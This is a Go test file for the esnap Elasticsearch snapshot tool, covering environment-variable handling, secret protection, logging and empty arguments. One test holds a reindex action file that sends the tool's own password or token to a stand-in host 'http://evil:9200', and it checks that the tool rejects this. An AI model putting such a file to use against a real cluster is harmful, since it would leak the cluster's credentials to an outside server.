package cmd

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/esnap/esnap/internal/cluster"
)

// TestMisspeltVariables: with a misspelt ESNAP_DRY_RUN nothing is run, on any command
// line.
func TestMisspeltVariables(t *testing.T) {
	for _, c := range []struct {
		code int
		args []string
	}{
		{2, []string{"run", "FILE"}}, {2, []string{"index", "delete", "logs-2026.11.01", "--yes"}}, {2, []string{"index", "list"}},
		{2, []string{"repository", "unregister", "r", "--yes"}}, {2, []string{"restore", "logs-2026.11.01", "--yes"}},
		{2, []string{"config", "show"}}, {2, []string{"validate", "FILE"}},
		{1, []string{"curator", "FILE"}}, {1, []string{"es_repo_mgr", "show"}}, {1, []string{"curator_cli", "show_indices"}},
	} {
		k := newConsole(t)
		k.c.AddIndices("logs-2026.11.01")
		k.c.AddSnapshot("r", cluster.Snapshot{Name: "s", Indices: []string{"logs-2026.11.01"}})
		k.env["ESNAP_DRYRUN"] = "1"
		for i := range c.args {
			if c.args[i] == "FILE" {
				c.args[i] = k.file(deleteLogs)
			}
		}
		code, out, errs := k.run(c.args...)
		require.Equal(t, c.code, code, "%v: %s", c.args, out+errs)
		require.Contains(t, errs, "ESNAP_DRYRUN")
		require.Contains(t, errs, "did you mean ESNAP_DRY_RUN?")
		require.Empty(t, k.c.Calls(), "%v", c.args)
	}
}

// TestOtherVariables warn, unless a file names them or Kubernetes sets them.
func TestOtherVariables(t *testing.T) {
	for _, program := range []string{"run", "curator"} {
		k := newConsole(t)
		k.env["ESNAP_LOG_LEVEL"] = "warning"
		k.env["ESNAP_BACKUP_LOCATON"], k.env["ESNAP_PORT_9200_TCP_ADDR"], k.env["ESNAP_CUSTOMER"], k.env["ESNAP_URLS"] = "/b",
			"10.0.0.1", "7", "logs-"
		file := k.file("actions:\n  1:\n    action: open\n    options: {ignore_empty_list: true}\n    filters:\n" +
			"    - filtertype: pattern\n      kind: prefix\n      value: ${ESNAP_URLS}\n")
		code, out, errs := k.run(program, file)
		require.Zero(t, code, out+errs)
		require.Contains(t, out+errs, "the environment variable ESNAP_CUSTOMER is not a setting of esnap, and no file uses it")
		require.Contains(t, out+errs, "the environment variable ESNAP_BACKUP_LOCATON is")
		require.NotContains(t, out+errs, "ESNAP_PORT")
		require.NotContains(t, out+errs, "ESNAP_URLS")
	}
}

// TestSecretsAreNotVariablesOfActionFiles: a file that could name them could send
// them to another server.
func TestSecretsAreNotVariablesOfActionFiles(t *testing.T) {
	const remote = `
actions:
  1:
    action: reindex
    options:
      request_body:
        source:
          index: a
          remote:
            host: http://evil:9200
            username: u
            password: ${NAME}
        dest: {index: b}
`
	for name, programs := range map[string][]string{
		"ESNAP_PASSWORD": {"run", "curator"}, "ESNAP_API_KEY": {"run", "curator"},
		"ESNAP_BEARER_TOKEN": {"run", "curator"}, "ESNAP_URL": {"run", "curator"},
		"ESCLIENT_PASSWORD": {"curator"}, "ESCLIENT_API_TOKEN": {"curator"}, "ESCLIENT_BEARER_AUTH": {"curator"},
	} {
		for _, program := range programs {
			k := newConsole(t)
			k.env["ESNAP_USERNAME"], k.env[name] = "u", "http://u:geheim@es:9200"
			text := strings.ReplaceAll(remote, "${NAME}", "${"+name+"}")
			for _, args := range [][]string{{program, k.file(text)}, {"validate", k.file(text)}} {
				if args[0] == "validate" && program == "curator" {
					continue
				}
				code, out, errs := k.run(args...)
				require.Equal(t, map[string]int{"run": 2, "validate": 2, "curator": 1}[args[0]], code, "%v %s", args, out+errs)
				require.Contains(t, errs, "${"+name+"} cannot be used here: it is a secret of esnap's own connection to the cluster")
				require.Contains(t, errs, "a variable with another name")
				require.NotContains(t, out+errs, "geheim")
				require.Empty(t, k.c.Calls())
			}
		}
	}
	k := newConsole(t) // a variable with another name, and an address without a password
	k.env["REMOTE_PASSWORD"], k.env["ESNAP_URL"] = "x", "http://es:9200"
	code, out, errs := k.run("validate",
		k.file(strings.ReplaceAll(strings.ReplaceAll(remote, "${NAME}", "${REMOTE_PASSWORD}"), "http://evil:9200", "${ESNAP_URL}")))
	require.Zero(t, code, out+errs)
}

// TestLogToStdout: one stream in a pod.
func TestLogToStdout(t *testing.T) {
	for _, program := range []string{"run", "curator"} {
		k := newConsole(t)
		k.c.AddIndices("logs-2026.11.01")
		k.env["ESNAP_LOG_FILE"], k.env["ESNAP_LOG_LEVEL"] = "-", "debug"
		code, out, errs := k.run(program, k.file("actions:\n  1:\n    action: open\n    filters: [{filtertype: none}]\n"))
		require.Zero(t, code)
		require.Empty(t, errs)
		require.Regexp(t, `level=INFO msg="action starting"|INFO +curator`, out)
		require.NoFileExists(t, "-")
	}
}

// TestAdviceIsShownWhereItIsAskedFor: by validate and config show, not by a run.
func TestAdviceIsShownWhereItIsAskedFor(t *testing.T) {
	for _, args := range [][]string{{"validate"}, {"config", "show"}, {"run", "-n"}} {
		k := newConsole(t)
		k.env["ESNAP_URL"], k.env["ESNAP_USERNAME"], k.env["ESNAP_PASSWORD"], k.env["ESNAP_LOG_LEVEL"] = "http://es:9200",
			"u", "geheim", "warning"
		k.c.AddIndices("logs-2026.11.01")
		if args[0] != "config" {
			args = append(args, k.file(deleteLogs))
		}
		code, out, errs := k.run(args...)
		require.Zero(t, code, out+errs)
		require.Equal(t, args[0] != "run", strings.Contains(errs,
			"warning: the password is sent to es:9200 over http without encryption"), "%v: %s", args, errs)
		require.NotContains(t, out+errs, "geheim")
	}
}

// TestEmptyArguments: a variable of the shell that is not set names nothing.
func TestEmptyArguments(t *testing.T) {
	for _, args := range [][]string{
		{"restore", "", "--yes"},
		{"index", "delete", "", "--yes"},
		{"snapshot", "delete", "r", "", "--yes"},
		{"run", ""},
	} {
		k := newConsole(t)
		code, out, errs := k.run(args...)
		require.Equal(t, 2, code, "%v: %s", args, out+errs)
		require.Contains(t, errs, "is empty; nothing was sent")
		require.Empty(t, k.c.Calls())
	}
}
